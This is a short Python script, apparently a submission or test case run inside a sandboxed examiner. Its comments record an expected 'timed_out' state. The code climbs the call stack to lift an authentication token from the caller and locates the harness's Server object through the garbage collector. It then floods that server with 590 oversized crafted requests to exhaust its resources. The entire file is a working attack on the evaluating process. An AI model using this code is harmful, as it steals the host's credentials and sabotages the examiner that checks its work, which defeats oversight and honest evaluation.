# It waits for answers, and does hardly anything itself: what the examiner works for it has a limit.
# state: timed_out
# proof: about to flood
import gc
import json
import struct
import sys

frame = sys._getframe()
while "question" not in frame.f_locals:
    frame = frame.f_back
token = frame.f_locals["question"]["token"]
server = next(one for one in gc.get_objects() if type(one).__name__ == "Server")
names = [str(number) for number in range(700)]
meta = {n: {"dtype": "U8", "shape": [1], "data_offsets": [int(n), int(n) + 1]} for n in names}
meta = json.dumps(meta, separators=(",", ":")).encode()
body = struct.pack("<Q", len(meta)) + meta + bytes(len(names))
ask = [[{"tensor": name} for name in names], [{"tuple": []}] * 3500]
head = json.dumps({"token": token, "ask": ask}, separators=(",", ":")).encode()
prove("about to flood")
for _ in range(590):
    server.channel.sock.sendall(struct.pack(">II", len(head), len(body)) + head + body)
    server.channel.receive()
return "neither"
